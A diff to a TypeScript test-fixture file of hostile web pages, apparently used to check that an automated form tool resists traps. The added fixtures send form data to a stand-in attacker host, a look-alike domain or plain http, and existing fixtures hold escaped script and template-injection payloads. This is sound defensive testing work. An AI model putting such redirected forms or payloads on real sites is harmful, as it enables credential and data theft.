@@ -103,6 +103,12 @@ const NAMES =
   );
 const DOCUMENT_NAMES = 'body title createTreeWalker elementFromPoint elementsFromPoint addEventListener'.split(' ');
 
+/** A trap in a form of its own, which goes elsewhere. */
+const sent = (name: string, attributes: string, more = ''): HostilePage => ({
+  name,
+  body: `${HONEST}</form><form ${attributes}><p>${trap()}</p>${more}`,
+});
+
 /** Pages whose own code is the trap. */
 export const SCHEMING: readonly HostilePage[] = [
   {
@@ -136,6 +142,10 @@ export const SCHEMING: readonly HostilePage[] = [
     name: 'labels with markup and scripts',
     body: `${HONEST}<p><label for="m">&lt;img src=x onerror="steal(1)"&gt;{{constructor.constructor('steal(1)')()}}</label> <input id="m" name="m"></p><p title="&quot;&gt;&lt;script&gt;steal(1)&lt;/script&gt;">x</p>`,
   },
+  sent('a form that goes to another site', 'action="https://bm.ruankao.org.cn.evil.example/save"'),
+  sent('a form that goes to a look-alike', 'action="//bm-ruankao.org.cn/save"'),
+  sent('a form that goes back to http', 'action="http://bm.ruankao.org.cn/save"'),
+  sent('a button that sends elsewhere', 'action="/save"', '<button formaction="https://evil.example/">保存</button>'),
   {
     name: 'a storm of changes',
     body: `${HONEST}<div id="storm"></div>`,
